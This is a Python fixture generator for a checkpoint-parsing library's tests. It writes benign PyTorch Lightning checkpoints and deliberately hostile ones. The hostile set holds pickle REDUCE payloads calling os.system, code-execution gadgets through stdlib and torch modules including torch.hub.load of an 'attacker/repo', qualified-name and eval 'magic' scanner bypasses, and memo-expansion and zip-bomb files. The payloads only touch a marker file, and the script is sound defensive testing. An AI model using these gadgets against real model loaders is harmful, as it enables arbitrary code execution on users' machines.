#!/usr/bin/python3
"""Builds the checkpoint fixtures of internal/ckpt (see README.md).

Run with Debian's interpreter from this directory:  /usr/bin/python3 make_fixtures.py
Needs torch (1.13), numpy and omegaconf; pytorch_lightning is NOT needed: the
classes a Lightning checkpoint names are registered below as small stand-in
modules so the pickles record the real module and class names.
Output is deterministic (fixed seeds, no timestamps).
"""
import argparse
import codecs
import collections
import dataclasses
import enum
import distutils.spawn
import functools
import imaplib
import io
import logging.config
import os
import pathlib
import pickle
import random
import shutil
import struct
import sys
import tarfile
import types
import zipfile

import numpy as np
import torch
import torch.fx.graph_module
import torch.hub
import torch.utils.collect_env
import yaml
from omegaconf import OmegaConf

HERE = os.path.dirname(os.path.abspath(__file__))
PWNED = "/tmp/ckptmeta-ckpt-fixture-pwned"  # created only if hostile_reduce.ckpt is ever executed


def stub_module(name, **classes):
    """Registers module `name` (and its parents) holding `classes`."""
    parts = name.split(".")
    for i in range(1, len(parts) + 1):
        mod = ".".join(parts[:i])
        if mod not in sys.modules:
            sys.modules[mod] = types.ModuleType(mod)
        if i > 1:
            setattr(sys.modules[".".join(parts[: i - 1])], parts[i - 1], sys.modules[mod])
    m = sys.modules[name]
    for cname, cls in classes.items():
        cls.__module__ = name
        cls.__qualname__ = cname
        cls.__name__ = cname
        setattr(m, cname, cls)
    return m


class AttributeDict(dict):
    pass


class ModelCheckpoint:
    pass


class EarlyStopping:
    pass


stub_module("pytorch_lightning.utilities.parsing", AttributeDict=AttributeDict)
stub_module("pytorch_lightning.callbacks.model_checkpoint", ModelCheckpoint=ModelCheckpoint)
stub_module("pytorch_lightning.callbacks.early_stopping", EarlyStopping=EarlyStopping)


class Evil:
    def __reduce__(self):
        return (os.system, ("touch " + PWNED,))


def seed():
    torch.manual_seed(0)
    np.random.seed(0)


def tiny_model():
    seed()
    return torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.BatchNorm1d(2))


def optimizer_state(model):
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.ones(4, 3)).sum().backward()
    opt.step()
    return opt.state_dict()


def save_buffer(obj, path, **kw):
    """torch.save through a file object, as Lightning does: root folder 'archive'."""
    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    with open(path, "wb") as f:
        f.write(buf.getvalue())


def zip_with(path, records):
    """A hand-made torch-style zip: records is a list of (name, bytes)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in records:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            z.writestr(info, data)


MC_KEY = ("ModelCheckpoint{'monitor': 'val/hmean', 'mode': 'max', 'every_n_train_steps': 0, "
          "'every_n_epochs': 1, 'train_time_interval': None}")


def lightning2():
    model = tiny_model()
    ckpt = {
        "epoch": 7,
        "global_step": 800,
        "pytorch-lightning_version": "2.1.3",
        "state_dict": model.state_dict(),
        "loops": {"fit_loop": {"epoch_progress": {"current": {"completed": 7}}}},
        "callbacks": {
            MC_KEY: {
                "monitor": "val/hmean",
                "best_model_score": torch.tensor(0.8125),
                "best_model_path": "/runs/exp1/checkpoints/epoch=7-step=800.ckpt",
                "current_score": torch.tensor(0.8125),
                "dirpath": "/runs/exp1/checkpoints",
                "best_k_models": {"/runs/exp1/checkpoints/epoch=7-step=800.ckpt": torch.tensor(0.8125)},
                "kth_best_model_path": "/runs/exp1/checkpoints/epoch=7-step=800.ckpt",
                "kth_value": torch.tensor(float("-inf")),
                "last_model_path": "",
            },
            "EarlyStopping{'monitor': 'val/loss', 'mode': 'min'}": {
                "wait_count": 1, "stopped_epoch": 0, "best_score": torch.tensor(0.25, dtype=torch.float64),
                "patience": 3,
            },
        },
        "optimizer_states": [optimizer_state(model)],
        "lr_schedulers": [{"last_epoch": 7, "_step_count": 8, "base_lrs": [0.001]}],
        "hparams_name": "kwargs",
        "hyper_parameters": OmegaConf.create({
            "model": {"architecture": "dbnet", "encoder": "resnet18", "decoder": "unet"},
            "lr": 0.001, "batch_size": 8, "tags": ["ocr", "det"],
            "max_epochs": "???", "warmup_lr": "${lr}",
        }),
        "cleval_metrics": {"precision": 0.875, "recall": 0.75, "hmean": 0.8076923076923077},
        "val_metrics": {"val/loss": np.float64(0.25), "val/hmean": np.float32(0.8125),
                        "val/count": np.int64(42), "val/step_hmean": torch.tensor(0.5, dtype=torch.float16)},
        "precision": {"scale": torch.tensor(65536.0), "growth": torch.tensor(2, dtype=torch.int32),
                      "finite": torch.tensor(True), "bf": torch.tensor(1.5, dtype=torch.bfloat16)},
    }
    save_buffer(ckpt, os.path.join(HERE, "lightning2.ckpt"))
    # best.ckpt: saved by path, so the root folder is the file's stem ("best"), not "archive".
    small = {"epoch": 1, "global_step": 10, "pytorch-lightning_version": "2.0.9",
             "state_dict": tiny_model().state_dict(),
             "callbacks": {MC_KEY: {"monitor": "val/hmean", "best_model_score": torch.tensor(0.5),
                                    "best_model_path": "best.ckpt"}}}
    torch.save(small, os.path.join(HERE, "best.ckpt"))
    # truncated.ckpt: the first half of lightning2.ckpt (a copy in progress).
    with open(os.path.join(HERE, "lightning2.ckpt"), "rb") as f:
        data = f.read()
    with open(os.path.join(HERE, "truncated.ckpt"), "wb") as f:
        f.write(data[: len(data) // 2])


def unique():
    key = ("UniqueModelCheckpoint{'monitor': 'val/hmean', 'mode': 'max', 'every_n_train_steps': 0, "
           "'every_n_epochs': 1, 'train_time_interval': None, 'save_on_train_epoch_end': False}")
    hp = AttributeDict(lr=0.0005, encoder="resnet50", decoder="fpn", schedule=[10, 20])
    ckpt = {
        "epoch": 12, "global_step": 3900, "pytorch-lightning_version": "1.9.5",
        "state_dict": tiny_model().state_dict(),
        "callbacks": {key: {"monitor": "val/hmean", "best_model_score": torch.tensor(float("nan")),
                            "best_model_path": "/runs/exp2/best.ckpt", "current_score": torch.tensor(float("inf"))}},
        "hparams_name": "hparams", "hyper_parameters": hp,
        "cleval_metrics": {"precision": np.float64(0.9), "recall": np.float64(0.8), "hmean": np.float64(0.8470588235294118)},
    }
    save_buffer(ckpt, os.path.join(HERE, "unique_callback.ckpt"))


def legacy():
    ns = argparse.Namespace(lr=0.01, encoder="resnet34", data_dir=pathlib.PurePosixPath("/data/icdar"), epochs=30)
    ckpt = {
        "epoch": 3, "global_step": 120, "pytorch-lightning_version": "1.2.10",
        "state_dict": tiny_model().state_dict(),
        "callbacks": {
            ModelCheckpoint: {"monitor": "val_loss", "best_model_score": torch.tensor(0.6875),
                              "best_model_path": "/runs/old/epoch=3.ckpt"},
            EarlyStopping: {"wait_count": 0, "stopped_epoch": 0, "best_score": torch.tensor(0.6875), "patience": 5},
        },
        "optimizer_states": [], "lr_schedulers": [],
        "hparams_name": "hparams", "hyper_parameters": ns,
        "val_hmean": torch.tensor(0.71),
    }
    # Legacy storage keys are str(storage._cdata), a memory address; make them
    # stable while saving so the fixture is reproducible.
    ids = {}
    real = torch._C.StorageBase._cdata  # C getset descriptor
    torch.UntypedStorage._cdata = property(
        lambda self: ids.setdefault(real.__get__(self), 94000000000000 + 64 * len(ids)))
    try:
        torch.save(ckpt, os.path.join(HERE, "legacy.ckpt"), _use_new_zipfile_serialization=False)
    finally:
        del torch.UntypedStorage._cdata


def weights_only():
    ckpt = {"epoch": 2, "global_step": 50, "pytorch-lightning_version": "2.0.0",
            "state_dict": tiny_model().state_dict(), "hparams_name": "kwargs",
            "hyper_parameters": {"lr": 0.1, "encoder": "mobilenet_v3"}}
    save_buffer(ckpt, os.path.join(HERE, "weights_only.ckpt"))


def protocol4():
    # pickle protocol 4: FRAME, SHORT_BINUNICODE, STACK_GLOBAL, MEMOIZE instead of GLOBAL/BINPUT.
    ckpt = {"epoch": 5, "global_step": 500, "pytorch-lightning_version": "2.2.0",
            "state_dict": tiny_model().state_dict(),
            "callbacks": {MC_KEY: {"monitor": "val/hmean", "best_model_score": torch.tensor(0.625),
                                   "best_model_path": "p4.ckpt"}},
            "hyper_parameters": {"lr": 0.02, "data_dirs": [pathlib.PurePosixPath("/data/a")],
                                 "classes": {"text", "background"}, "raw": b"\x00\x01"}}
    save_buffer(ckpt, os.path.join(HERE, "protocol4.ckpt"), pickle_protocol=4)


def hostile():
    # os.system via REDUCE; executing it would create PWNED.
    save_buffer({"epoch": 1, "global_step": 1, "payload": Evil()}, os.path.join(HERE, "hostile_reduce.ckpt"))
    # BINBYTES8 / BINUNICODE8 declaring 2**48 bytes (gopickle would allocate them and die).
    big = struct.pack("<Q", 1 << 48)
    zip_with(os.path.join(HERE, "hostile_binbytes8.ckpt"),
             [("archive/data.pkl", b"\x80\x02\x8e" + big + b"."), ("archive/version", b"3\n")])
    zip_with(os.path.join(HERE, "hostile_binunicode8.ckpt"),
             [("archive/data.pkl", b"\x80\x02}q\x00X\x01\x00\x00\x00a\x8d" + big + b"s."), ("archive/version", b"3\n")])
    # SETITEMS with an odd item count (gopickle: index out of range panic).
    zip_with(os.path.join(HERE, "hostile_setitems.ckpt"),
             [("archive/data.pkl", b"\x80\x02}(K\x01u."), ("archive/version", b"3\n")])
    # A list that contains itself.
    zip_with(os.path.join(HERE, "hostile_cycle.ckpt"),
             [("archive/data.pkl", b"\x80\x02]q\x00h\x00a."), ("archive/version", b"3\n")])
    # Memo expansion ("billion laughs"): 2**40 leaves from 40 levels of [a, a].
    a = ["x"]
    for _ in range(40):
        a = [a, a]
    zip_with(os.path.join(HERE, "hostile_expansion.ckpt"),
             [("archive/data.pkl", pickle.dumps({"epoch": 1, "bomb": a}, protocol=2)), ("archive/version", b"3\n")])
    # Zip-bomb-like: data.pkl declares ~4 GiB in the central directory.
    path = os.path.join(HERE, "zipbomb.ckpt")
    zip_with(path, [("archive/data.pkl", pickle.dumps({"epoch": 1}, protocol=2)), ("archive/version", b"3\n")])
    with open(path, "rb") as f:
        data = bytearray(f.read())
    cd = data.rfind(b"PK\x01\x02", 0, data.rfind(b"PK\x01\x02"))  # first central directory header
    struct.pack_into("<I", data, cd + 24, 0xFFFFFFF0)
    with open(path, "wb") as f:
        f.write(data)
    # Legacy file whose "magic number" is computed by eval (picklescan's pytorch_magic_bypass).
    with open(os.path.join(HERE, "magic_bypass.ckpt"), "wb") as f:
        f.write(b"\x80\x02cbuiltins\neval\nq\x00X\x16\x00\x00\x000x1950a86a20f9469cfc6cq\x01\x85q\x02Rq\x03.")
        f.write(pickle.dumps(1001, protocol=2))
    # Empty file, and a random non-checkpoint.
    open(os.path.join(HERE, "empty.ckpt"), "wb").close()
    rng = random.Random(42)
    with open(os.path.join(HERE, "not_a_checkpoint.ckpt"), "wb") as f:
        f.write(b"just some bytes\n" + bytes(rng.randrange(256) for _ in range(1024)))


def unsupported():
    seed()
    scripted = torch.jit.script(torch.nn.Linear(2, 2))
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    with open(os.path.join(HERE, "torchscript.ckpt"), "wb") as f:
        f.write(buf.getvalue())
    # torch < 0.4 tar-era layout (member names only; contents are placeholders).
    with tarfile.open(os.path.join(HERE, "tar_era.ckpt"), "w", format=tarfile.USTAR_FORMAT) as t:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = pickle.dumps({"placeholder": name}, protocol=2)
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            t.addfile(info, io.BytesIO(data))
    # A sharded (directory) checkpoint with meta.pt.
    d = os.path.join(HERE, "sharded.ckpt")
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    save_buffer({"epoch": 0, "global_step": 0}, os.path.join(d, "meta.pt"))


# --- pickle policy (internal/ckpt policy.go): benign partials, gadgets, qualified names ---

class SimpleDenseNet(torch.nn.Module):
    """lightning-hydra-template's src/models/components/simple_dense_net.py, made tiny."""

    def __init__(self, input_size=4, lin1_size=3, output_size=2):
        super().__init__()
        self.model = torch.nn.Sequential(
            torch.nn.Linear(input_size, lin1_size), torch.nn.ReLU(), torch.nn.Linear(lin1_size, output_size))


stub_module("src.models.components.simple_dense_net", SimpleDenseNet=SimpleDenseNet)

LHT_MC_KEY = ("ModelCheckpoint{'monitor': 'val/acc', 'mode': 'max', 'every_n_train_steps': 0, "
              "'every_n_epochs': 1, 'train_time_interval': None}")


def lht_partial():
    """A lightning-hydra-template run (MNISTLitModule): save_hyperparameters(logger=False) keeps
    net, and Hydra's `_partial_: true` optimizer and scheduler as functools.partial objects."""
    seed()
    net = SimpleDenseNet()
    hparams = {
        "net": net,
        "optimizer": functools.partial(torch.optim.Adam, lr=0.001, weight_decay=0.0),
        "scheduler": functools.partial(torch.optim.lr_scheduler.ReduceLROnPlateau, mode="min", factor=0.1,
                                       patience=10),
        "compile": False,
    }
    ckpt = {
        "epoch": 9, "global_step": 8600, "pytorch-lightning_version": "2.1.2",
        "state_dict": {"net." + k: v for k, v in net.state_dict().items()},
        "loops": {"fit_loop": {"epoch_progress": {"current": {"completed": 9}}}},
        "callbacks": {LHT_MC_KEY: {"monitor": "val/acc", "best_model_score": torch.tensor(0.9875),
                                   "best_model_path": "logs/train/runs/x/checkpoints/epoch_009.ckpt"},
                      "EarlyStopping{'monitor': 'val/acc', 'mode': 'max'}": {"wait_count": 0, "patience": 100}},
        "optimizer_states": [], "lr_schedulers": [],
        "hparams_name": "kwargs", "hyper_parameters": hparams,
    }
    save_buffer(ckpt, os.path.join(HERE, "lht_partial.ckpt"))


class Mode(enum.Enum):
    MIN = "min"
    MAX = "max"


@dataclasses.dataclass
class TrainConfig:
    lr: float = 0.1
    mode: Mode = Mode.MAX


class FocalLoss:
    def __init__(self, gamma=2.0):
        self.gamma = gamma


stub_module("my_project.config", Mode=Mode, TrainConfig=TrainConfig, FocalLoss=FocalLoss)


def user_data():
    """Hyper-parameters that are user classes: a dataclass, an enum, and partial of an unknown
    class. Unknown to the policy (torch's weights_only refuses them), never dangerous."""
    ckpt = {"epoch": 4, "global_step": 40, "pytorch-lightning_version": "2.1.2", "hparams_name": "kwargs",
            "hyper_parameters": {"cfg": TrainConfig(), "mode": Mode.MIN,
                                 "loss": functools.partial(FocalLoss, gamma=1.5)}}
    save_buffer(ckpt, os.path.join(HERE, "user_data.ckpt"))


class Call:
    """Pickles as fn(*args) (REDUCE). Never called here: loading it would run fn."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


CMD = "touch " + PWNED

# Code runners reachable through ordinary stdlib and torch modules (issue 14): each fixture is
# {"epoch": 1, ..., "payload": <call>}; torch.load without weights_only would run the call.
GADGETS = {
    "imaplib": Call(imaplib.IMAP4_stream, CMD),
    "collect_env": Call(torch.utils.collect_env.run, CMD),
    "logging_config": Call(logging.config.dictConfig,
                           {"version": 1, "handlers": {"h": {"()": "os.system", "command": CMD}}}),
    "yaml_unsafe_load": Call(yaml.unsafe_load, "!!python/object/apply:os.system [%r]" % CMD),
    "distutils_spawn": Call(distutils.spawn.spawn, ["touch", PWNED]),
    "fx_source": Call(torch.fx.graph_module._forward_from_src,
                      "import os\nos.system(%r)\ndef forward(self):\n    pass\n" % CMD, {}),
    "codecs_open": Call(codecs.open, PWNED, "w"),
    "torch_hub": Call(torch.hub.load, "attacker/repo", "model"),
}


def gadgets():
    for name, call in GADGETS.items():
        save_buffer({"epoch": 1, "global_step": 1, "payload": call}, os.path.join(HERE, "gadget_%s.ckpt" % name))
    # Hydra-style partial of os.system: a consumer that instantiates the "optimizer" runs it.
    save_buffer({"epoch": 1, "global_step": 1, "hparams_name": "kwargs",
                 "hyper_parameters": {"optimizer": functools.partial(os.system, CMD)}},
                os.path.join(HERE, "hostile_partial.ckpt"))


class Qualified:
    """A protocol-4 qualified global: module `module`, dotted name `name`, which pickle's
    find_class resolves by walking attributes (posixpath.os.system is os.system)."""

    def __init__(self, module, name):
        self.module, self.name = module, name

    def __call__(self, *args):  # save_reduce wants a callable; never called
        raise RuntimeError("not callable")


class QualifiedPickler(pickle._Pickler):
    """The standard (pure-Python) pickler, writing Qualified as STACK_GLOBAL(module, name)."""

    dispatch = dict(pickle._Pickler.dispatch)

    def save_qualified(self, obj):
        self.save(obj.module)
        self.save(obj.name)
        self.write(pickle.STACK_GLOBAL)
        self.memoize(obj)

    dispatch[Qualified] = save_qualified


QUALIFIED = {"posixpath": ("posixpath", "os.system"), "tempfile": ("tempfile", "_os.system"),
             "torch": ("torch", "os.system")}


def qualified():
    pickle_module = types.ModuleType("qualified_pickle")
    pickle_module.Pickler = QualifiedPickler
    for name, (module, attr) in QUALIFIED.items():
        ckpt = {"epoch": 1, "global_step": 1, "payload": Call(Qualified(module, attr), CMD)}
        save_buffer(ckpt, os.path.join(HERE, "qualified_%s.ckpt" % name), pickle_module=pickle_module,
                    pickle_protocol=4)


if __name__ == "__main__":
    lightning2()
    unique()
    legacy()
    weights_only()
    protocol4()
    hostile()
    unsupported()
    lht_partial()
    user_data()
    gadgets()
    qualified()
    assert not os.path.exists(PWNED)
